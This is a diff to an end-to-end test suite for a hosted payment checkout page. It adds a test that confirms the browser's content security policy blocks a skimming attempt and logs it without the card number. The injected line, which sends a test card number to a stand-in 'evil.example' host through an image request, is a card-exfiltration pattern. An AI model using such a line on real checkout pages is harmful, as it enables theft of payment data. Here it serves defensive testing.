@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { testSetting, waitFor } from '@cobro/testing'
@@ -114,6 +115,29 @@ test('shows the payer a decline, accepts another card and returns to the shop', 
   expect(sent.map(request => request.body).join()).not.toMatch(/4242424242424242|4000000000009995/)
   // Chromium logs the 402 as a failed load. Nothing else may be logged, least of all a violation of the content security policy.
   expect(complaints.filter(text => !text.includes('402'))).toEqual([])
+  await page.close()
+})
+
+test('records that the browser blocked a script which sends the card elsewhere, without the card', async () => {
+  const session = await openSession()
+  const { page } = await openTab(session.url)
+  const origin = `https://${randomBytes(4).toString('hex')}.evil.example`
+  await page.evaluate(to => {
+    new Image().src = `${to}/?n=4242424242424242`
+  }, origin)
+  const recorded = await waitFor(async () => {
+    const path = `/api/events?action=hosted_page.csp_violated&target_id=${session.id}`
+    const { body } = await clients.operator.call('GET', path)
+    return body.count > 0 && body.data
+  })
+  expect(recorded).toEqual([
+    expect.objectContaining({
+      category: 'checkout',
+      actor: { type: 'payer', id: null },
+      metadata: expect.objectContaining({ directive: 'img-src', blocked_origin: origin }),
+    }),
+  ])
+  expect(JSON.stringify(recorded)).not.toContain('4242')
   await page.close()
 })
 
